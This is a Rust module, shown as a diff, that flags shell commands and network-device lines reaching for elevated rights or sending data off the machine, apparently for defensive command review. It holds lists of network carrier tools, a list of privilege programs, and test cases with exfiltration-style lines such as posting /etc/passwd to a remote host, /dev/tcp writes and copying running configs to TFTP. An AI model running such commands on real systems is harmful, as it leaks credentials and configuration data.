@@ -1,0 +1,198 @@
+//! What a change reaches for: rights, or somebody else's machine.
+
+use crate::verdict::{excerpt, excerpt_of, listed};
+
+/// A lane above `change`, the rule that says so without the lane in front, and why.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub(crate) struct Reach {
+    pub(crate) lane: &'static str,
+    pub(crate) rule: &'static str,
+    pub(crate) reason: String,
+}
+
+const PRIVILEGE: &str = "privilege";
+const EXFILTRATION: &str = "exfiltration";
+
+/// Programs that run others with more rights, or change who has them.
+const RIGHTS: &str = "sudo su doas pkexec run0 runuser gosu su-exec sudoedit visudo vipw vigr passwd chpasswd chage useradd usermod \
+                      adduser addgroup groupadd groupmod gpasswd newusers setcap setfacl ssh-copy-id authconfig authselect pam-auth-update";
+/// Programs that carry what they read somewhere else.
+const CARRIERS: &str = "ftp lftp tftp ncftpput nc ncat netcat socat telnet mail mailx mutt sendmail swaks rclone s3cmd gsutil azcopy magic-wormhole \
+                        wormhole croc termbin dnscat iodine curlftpfs";
+/// Options of curl and wget that send something, with or without a value behind `=`.
+const SENDING: &str = "-d --data --data-ascii --data-binary --data-raw --data-urlencode --json -F --form --form-string -T --upload-file \
+                       --post-data --post-file --body-data --body-file --mail-from";
+/// Hosts that are this machine.
+const LOOPBACK: [&str; 4] = ["localhost", "127.", "[::1]", "::1"];
+/// How files are named that lie on another machine, on network devices.
+const REMOTE: [&str; 9] = ["tftp:", "ftp:", "ftps:", "scp:", "sftp:", "rcp:", "http:", "https:", "s3:"];
+
+/// Words that begin a copy on network devices.
+const COPYING: [&str; 13] =
+    ["copy", "file", "archive", "request", "save", "export", "execute", "backup", "tftp", "ftp", "scp", "put", "write"];
+
+/// What the commands of a shell reach for; what leaves the machine comes first.
+pub(crate) fn of_shell(commands: &[Vec<String>]) -> Option<Reach> {
+    let leaves = commands.iter().find(|line| carries(line));
+    if let Some(line) = leaves {
+        return Some(reach(EXFILTRATION, "posix.carries", format!("{} may carry data to another machine", excerpt_of(line))));
+    }
+    let rights = commands.iter().find(|line| takes_rights(line))?;
+    Some(reach(PRIVILEGE, "posix.rights", format!("{} takes or gives rights", excerpt_of(rights))))
+}
+
+fn reach(lane: &'static str, rule: &'static str, reason: String) -> Reach {
+    Reach { lane, rule, reason }
+}
+
+fn program(line: &[String]) -> &str {
+    line.first().map_or("", |word| word.rsplit('/').next().unwrap_or(word))
+}
+
+fn takes_rights(line: &[String]) -> bool {
+    let arguments = || line.iter().skip(1);
+    match program(line) {
+        "chmod" => arguments().any(|word| sets_id(word)),
+        "chown" => arguments().any(|word| word == "root" || word.starts_with("root:")),
+        program => listed(RIGHTS, program),
+    }
+}
+
+/// `u+s`, `4755`: whoever runs it has the owner's rights.
+fn sets_id(mode: &str) -> bool {
+    let octal = mode.len() == 4 && mode.bytes().all(|byte| byte.is_ascii_digit()) && mode.starts_with(['2', '4', '6']);
+    octal || mode.split_once(['+', '=']).is_some_and(|(who, what)| who.len() <= 4 && what.contains('s'))
+}
+
+fn carries(line: &[String]) -> bool {
+    let arguments = || line.iter().skip(1).map(String::as_str);
+    let operands = || arguments().filter(|word| !word.starts_with('-'));
+    match program(line) {
+        "scp" | "rsync" | "sftp" | "rcp" => operands().next_back().is_some_and(is_elsewhere),
+        "curl" | "wget" | "wget2" | "http" | "https" | "xh" => sends(line) && !operands().any(is_loopback),
+        "git" => operands().next() == Some("push"),
+        "docker" | "podman" => operands().next() == Some("push"),
+        "aws" => operands().next() == Some("s3") && operands().any(|word| word.starts_with("s3://")),
+        // A port that is only looked at.
+        "nc" | "ncat" | "netcat" => !arguments().any(|word| word.starts_with('-') && !word.starts_with("--") && word.contains('z')),
+        "openssl" => operands().next() == Some("s_client"),
+        ">" => operands().any(|word| word.starts_with("/dev/tcp/") || word.starts_with("/dev/udp/")),
+        program => listed(CARRIERS, program),
+    }
+}
+
+/// `host:path`, `user@host:`, `rsync://…`, and not `./a:b`.
+fn is_elsewhere(operand: &str) -> bool {
+    let colon = operand.find(':');
+    colon.is_some_and(|colon| !operand.get(..colon).unwrap_or_default().contains('/'))
+}
+
+fn is_loopback(operand: &str) -> bool {
+    let bare = operand.split_once("://").map_or(operand, |(_, rest)| rest);
+    LOOPBACK
+        .iter()
+        .any(|host| bare.strip_prefix(host).is_some_and(|rest| host.ends_with('.') || rest.is_empty() || rest.starts_with([':', '/'])))
+}
+
+fn sends(line: &[String]) -> bool {
+    let method = |word: &str| matches!(word.to_ascii_uppercase().as_str(), "POST" | "PUT" | "PATCH" | "DELETE");
+    let mut before = "";
+    line.iter().skip(1).any(|word| {
+        let name = word.split_once('=').map_or(word.as_str(), |(name, _)| name);
+        let glued = word.strip_prefix("-X").is_some_and(method)
+            || word.len() > 2 && (word.starts_with("-d") || word.starts_with("-T") || word.starts_with("-F"));
+        let sends = listed(SENDING, name)
+            || glued && !word.starts_with("--")
+            || matches!(before, "-X" | "--request" | "--method") && method(word)
+            || method(word);
+        before = word;
+        sends
+    })
+}
+
+/// What a line of a network device reaches for: a copy to somewhere else, or rights.
+pub(crate) fn of_device(line: &str) -> Option<Reach> {
+    let words: Vec<String> = line.split_whitespace().map(str::to_ascii_lowercase).collect();
+    let is_remote = |word: &str| REMOTE.iter().any(|scheme| word.trim_start_matches('"').starts_with(scheme)) || word.contains("://");
+    // The source of a copy stands first among its operands, what it goes to behind.
+    let named = words.iter().skip(1).filter(|word| !word.starts_with('/') || word.contains("://"));
+    let first = words.first().map(|word| word.trim_start_matches('/')).unwrap_or_default();
+    let copies = words.iter().any(|word| word == "|") || COPYING.iter().any(|full| first.len() > 1 && full.starts_with(first));
+    let goes = copies && named.skip(1).any(|word| is_remote(word)) && !words.get(1).is_some_and(|word| is_remote(word));
+    let uploads = words.iter().any(|word| matches!(word.as_str(), "upload=yes" | "e-mail" | "upload"));
+    if goes || uploads {
+        return Some(reach(EXFILTRATION, "device.copy-out", format!("{} carries data to another machine", excerpt(line))));
+    }
+    let has = |full: &[&str]| words.iter().any(|word| full.contains(&word.as_str()));
+    let users = matches!(first, "username" | "aaa" | "user" | "enable") && words.len() > 1
+        || matches!(first, "enable" | "en" | "ena" | "super" | "system-view" | "su")
+        || first == "set" && has(&["root-authentication", "login", "authentication", "privilege"]);
+    users.then(|| reach(PRIVILEGE, "device.rights", format!("{} takes or gives rights", excerpt(line))))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn shell(line: &str) -> Option<&'static str> {
+        of_shell(&[line.split(' ').map(str::to_owned).collect()]).map(|reach| reach.lane)
+    }
+
+    #[test]
+    fn what_leaves_the_machine_is_told_from_what_comes() {
+        for (line, expected) in [
+            ("scp a web2:/tmp/", Some(EXFILTRATION)),
+            ("scp web2:/tmp/a .", None),
+            ("rsync -a /etc/ backup@h:etc/", Some(EXFILTRATION)),
+            ("rsync -a a/ b/", None),
+            ("curl https://example.net/x", None),
+            ("curl -d @/etc/passwd https://example.net", Some(EXFILTRATION)),
+            ("curl --data-binary=@x https://example.net", Some(EXFILTRATION)),
+            ("curl -XPOST https://example.net", Some(EXFILTRATION)),
+            ("curl -X POST http://localhost:9200/_flush", None),
+            ("curl -X POST http://localhost.evil.example/", Some(EXFILTRATION)),
+            ("nc example.net 80", Some(EXFILTRATION)),
+            ("nc -zv example.net 80", None),
+            ("> /dev/tcp/192.0.2.1/80", Some(EXFILTRATION)),
+            ("git push", Some(EXFILTRATION)),
+            ("git pull", None),
+        ] {
+            assert_eq!(shell(line), expected, "{line}");
+        }
+    }
+
+    #[test]
+    fn rights_are_seen() {
+        for (line, expected) in [
+            ("sudo systemctl restart nginx", Some(PRIVILEGE)),
+            ("/usr/bin/su -", Some(PRIVILEGE)),
+            ("chmod u+s /tmp/x", Some(PRIVILEGE)),
+            ("chmod 4755 x", Some(PRIVILEGE)),
+            ("chmod 0755 x", None),
+            ("chmod g+w x", None),
+            ("touch sudo", None),
+        ] {
+            assert_eq!(shell(line), expected, "{line}");
+        }
+    }
+
+    #[test]
+    fn copies_of_network_devices_have_a_direction() {
+        let lane = |line: &str| of_device(line).map(|reach| reach.lane);
+        for (line, expected) in [
+            ("copy running-config tftp://192.0.2.1/x", Some(EXFILTRATION)),
+            ("copy run scp:", Some(EXFILTRATION)),
+            ("copy tftp://192.0.2.1/x flash:", None),
+            ("show run | redirect ftp://192.0.2.1/x", Some(EXFILTRATION)),
+            ("file copy /var/log/messages scp://h/x", Some(EXFILTRATION)),
+            ("/tool fetch upload=yes url=\"ftp://h/\"", Some(EXFILTRATION)),
+            ("enable", Some(PRIVILEGE)),
+            ("username bob privilege 15", Some(PRIVILEGE)),
+            ("set system root-authentication plain-text-password", Some(PRIVILEGE)),
+            ("interface Ethernet1", None),
+            ("description see https://wiki", None),
+        ] {
+            assert_eq!(lane(line), expected, "{line}");
+        }
+    }
+}
